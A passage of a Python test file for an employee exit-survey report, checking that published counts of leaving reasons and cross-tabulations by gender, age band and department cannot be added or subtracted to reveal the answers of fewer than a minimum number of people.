    for cell in figures.primary_reasons.cells:
        shown.append((f"reason {cell.key}", lambda p, r=cell.key: p["reason"] == r, cell.count))
    shown.append(("named a reason", lambda p: p["reason"] is not None, figures.primary_reasons.total))
    for breakdown in figures.breakdowns:
        for group in breakdown.groups:
            name, key = breakdown.dimension, group.key
            shown.append((f"{name}={key}", lambda p, d=name, g=key: {**COMMON, **p}[d] == g, group.respondents))
    for by_reason in figures.reasons_by_group:
        for of_group in by_reason.groups:
            name, key = by_reason.dimension, of_group.key
            for cell in of_group.reasons.cells:
                reason = None if cell.key == "no_reason" else cell.key
                shown.append(
                    (
                        f"{name}={key} reason {cell.key}",
                        lambda p, d=name, g=key, r=reason: p[d] == g and p["reason"] == r,
                        cell.count,
                    )
                )
    return shown


def readable_small_counts(figures: ReportFigures, people: list[dict], largest: int = 4, new_only: bool = False) -> dict:
    """Every sum and difference of up to ``largest`` counts shown that counts fewer than K people (and some): what a
    reader who knows everyone's gender and age band computes to learn the reasons of a few. Maps whom each counts
    (one 0/1 per person) to the counts combined; ``new_only``: only those with a count of the reasons per group."""
    shown = published_counts(figures)
    members = [(name, tuple(int(test(p)) for p in people)) for name, test, _ in shown]
    found: dict[tuple[int, ...], list] = {}
    for size in range(1, largest + 1):
        for chosen in itertools.combinations(members, size):
            if new_only and not any(" reason " in name for name, _ in chosen):
                continue
            for signs in itertools.product((1, -1), repeat=size):
                cover = tuple(
                    sum(s * m for s, m in zip(signs, column, strict=True))
                    for column in zip(*(c[1] for c in chosen), strict=True)
                )
                if set(cover) <= {0, 1} and 0 < sum(cover) < K:
                    found.setdefault(cover, []).append([(s, name) for s, (name, _) in zip(signs, chosen, strict=True)])
    return found


def reason_table(figures: ReportFigures, dimension: str, group: str) -> CountTable | None:
    for breakdown in figures.reasons_by_group:
        if breakdown.dimension == dimension:
            return next((g.reasons for g in breakdown.groups if g.key == group), None)
    return None


async def test_reasons_per_target_group_show_where_groups_leave_for_different_reasons(sessions):
    period = quarter(1966, 2)
    answers = (
        [reasons_of("woman", "25-34", "workload")] * 7
        + [reasons_of("woman", "25-34", "pay_and_benefits")] * 5
        + [reasons_of("man", "25-34", "career_opportunity")] * 7
        + [reasons_of("man", "25-34", "pay_and_benefits")] * 5
    )
    await seed(sessions, period, answers)
    figures = await figures_for(sessions, period)
    # None of the women named a career elsewhere: a zero says nothing about anyone, and here it is the point.
    women = reason_table(figures, "gender", "woman")
    assert cells(women) == {"workload": 7, "pay_and_benefits": 5, "career_opportunity": 0}
    men = reason_table(figures, "gender", "man")
    assert cells(men) == {"career_opportunity": 7, "pay_and_benefits": 5, "workload": 0}
    assert men.total == 12 and men.other is None and [c.share for c in men.cells][:2] == [0.5833, 0.4167]
    html = render_html(figures, "nl")
    section = html[html.index('id="reasons-by-group"') : html.index('id="five-as"')]
    assert "Belangrijkste reden van vertrek per doelgroep" in section and "Werkdruk" in section and "58%" in section
    english = render_html(figures, "en")
    assert "Main reason for leaving per target group" in english
    rows = csv_rows(render_csv(figures))
    assert {
        "section": "reasons_by_group",
        "dimension": "gender=woman",
        "key": "workload",
        "measure": "count",
        "value": "7",
        "base": "12",
        "suppressed": "",
    } in rows


async def test_a_reason_of_one_cannot_be_read_by_subtracting_a_group_from_the_report(sessions):
    """The one man who named pay: the report's 6 for pay less the 5 women would give him away, and so would the 5
    of the 25-34s, the 35-44s being five women and him. Neither count shows, nor any that would do the same."""
    period = quarter(1966, 3)
    people = (
        [{"gender": "woman", "age_band": "25-34", "reason": "pay_and_benefits"}] * 5
        + [{"gender": "woman", "age_band": "35-44", "reason": "workload"}] * 5
        + [{"gender": "man", "age_band": "35-44", "reason": "pay_and_benefits"}]
        + [{"gender": "man", "age_band": "25-34", "reason": "workload"}] * 9
    )
    await seed(sessions, period, [reasons_of(p["gender"], p["age_band"], p["reason"]) for p in people])
    figures = await figures_for(sessions, period)
    assert cells(figures.primary_reasons) == {"workload": 14, "pay_and_benefits": 6}
    assert {g.key for b in figures.breakdowns for g in b.groups} >= {"woman", "man", "25-34", "35-44"}
    assert readable_small_counts(figures, people) == {}
    for dimension, group in [("gender", "woman"), ("age_band", "25-34")]:
        table = reason_table(figures, dimension, group)
        assert table is None or "pay_and_benefits" not in cells(table), (dimension, group)


async def test_a_group_s_reasons_are_never_read_beside_a_group_left_out_or_those_who_named_none(sessions):
    """Random groups and reasons, a few naming none: no sum or difference of the counts shown, the new tables with
    the report's own, counts fewer than the minimum where the report's own figures did not already."""
    rng = random.Random(16)
    genders, ages = ["woman", "man", "non_binary"], ["<25", "25-34", "35-44"]
    reasons = ["workload", "pay_and_benefits", "career_opportunity", None]
    shown_tables = []
    for number, size in enumerate([18, 30, 60], start=1):
        period = quarter(1967, number)
        people = [
            {
                "gender": rng.choice(genders),
                "age_band": rng.choice(ages),
                "reason": rng.choices(reasons, [4, 3, 3, 1])[0],
            }
            for _ in range(size)
        ]
        await seed(sessions, period, [reasons_of(p["gender"], p["age_band"], p["reason"]) for p in people])
        figures = await figures_for(sessions, period)
        # The report's own figures may already count a few who named no reason (all less those who named one); the
        # tables add nobody to what a reader can count that way.
        without = {**figures.model_dump(), "reasons_by_group": []}
        before = readable_small_counts(ReportFigures.model_validate(without), people, largest=3)
        added = readable_small_counts(figures, people, largest=3, new_only=True)
        assert set(added) <= set(before), [added[cover] for cover in set(added) - set(before)]
        shown_tables.append(sum(len(b.groups) for b in figures.reasons_by_group))
        for breakdown in figures.reasons_by_group:
            for group in breakdown.groups:
                assert_not_derivable(group.reasons)
    assert shown_tables[-1] > 0, "with enough respondents some groups' reasons show"


# A target group within a department: one more sum per pair of groups, suppressed with the groups' own.
def with_gender(gender: str, rating: int) -> dict:
    return record(rating=rating, target_group={"gender": gender})


def sums_with_pairs(figures: ReportFigures) -> list[tuple[str, Callable[..., bool], int | None, float | None]]:
    """Every (who, size, mean of work content) the report shows: the total, each group, each department's group."""
    work = next(r.mean for r in figures.ratings if r.metric == "work_content")
    shown: list[tuple[str, Callable[..., bool], int | None, float | None]] = [
        ("total", lambda p: True, figures.respondents, work)
    ]
    for breakdown in figures.breakdowns:
        for group in breakdown.groups:
            name, key = breakdown.dimension, group.key
            shown.append(
                (f"{name}={key}", lambda p, d=name, g=key: p[d] == g, group.respondents, group.means["work_content"])
            )
    for cross in figures.cross_breakdowns:
        for group in cross.groups:
            name, key, department = cross.dimension, group.key, cross.department
            shown.append(
                (
                    f"{department}/{name}={key}",
                    lambda p, a=department, d=name, g=key: p["department"] == a and p[d] == g,
                    group.respondents,
                    group.means["work_content"],
                )
            )
    return shown


async def test_a_target_group_within_a_department_never_gives_one_person_away(sessions):
    """Finance's one man: each group alone is large enough, and the department and gender breakdowns together do not
    single him out; but Finance's women beside Finance would. No pair shows that would, and no sum or difference of
    the pairs with the groups and the total covers fewer than the minimum."""
    people = (
        [{"department": "Finance", "gender": "woman", "rating": 4}] * 6
        + [{"department": "Finance", "gender": "man", "rating": 1}]
        + [{"department": "Legal", "gender": "woman", "rating": 3}] * 6
        + [{"department": "Legal", "gender": "man", "rating": 5}] * 6
    )
    period = quarter(1968, 1)
    for department in ("Finance", "Legal"):
        mine = [p for p in people if p["department"] == department]
        await seed(sessions, period, [with_gender(p["gender"], p["rating"]) for p in mine], department=department)
    figures = await figures_for(sessions, period)
    assert {g.key for b in figures.breakdowns for g in b.groups} >= {"Finance", "Legal", "woman", "man"}
    assert not figures.cross_breakdowns
    people_with = [{**p, "tenure_band": "not_given", "age_band": "not_given"} for p in people]
    shown = [(name, tuple(int(test(p)) for p in people_with), n) for name, test, n, mean in sums_with_pairs(figures)]
    for size in range(1, 5):
        for chosen in itertools.combinations(shown, size):
            for signs in itertools.product((1, -1), repeat=size):
                cover = [
                    sum(s * m for s, m in zip(signs, column, strict=True))
                    for column in zip(*(c[1] for c in chosen), strict=True)
                ]
                assert not (set(cover) <= {0, 1} and 0 < sum(cover) < K), [
                    (s, c[0]) for s, c in zip(signs, chosen, strict=True)
                ]

    # With enough people in every pair, each pair shows, with its mean.
    more = quarter(1968, 2)
    await seed(sessions, more, [with_gender("woman", 4)] * 6 + [with_gender("man", 2)] * 5, department="Finance")
    await seed(sessions, more, [with_gender("woman", 3)] * 5 + [with_gender("man", 5)] * 6, department="Legal")
    figures = await figures_for(sessions, more)
    pairs = {
        (c.department, g.key): (g.respondents, g.means["work_content"])
        for c in figures.cross_breakdowns
        for g in c.groups
    }
    assert pairs == {
        ("Finance", "woman"): (6, 4.0),
        ("Finance", "man"): (5, 2.0),
        ("Legal", "woman"): (5, 3.0),
        ("Legal", "man"): (6, 5.0),
    }
    rows = csv_rows(render_csv(figures))
    assert {
        "section": "cross_breakdown",
        "dimension": "department=Finance/gender",
        "key": "man",
        "measure": "mean_work_content",
        "value": "2.0",
        "base": "5",
        "suppressed": "",
    } in rows
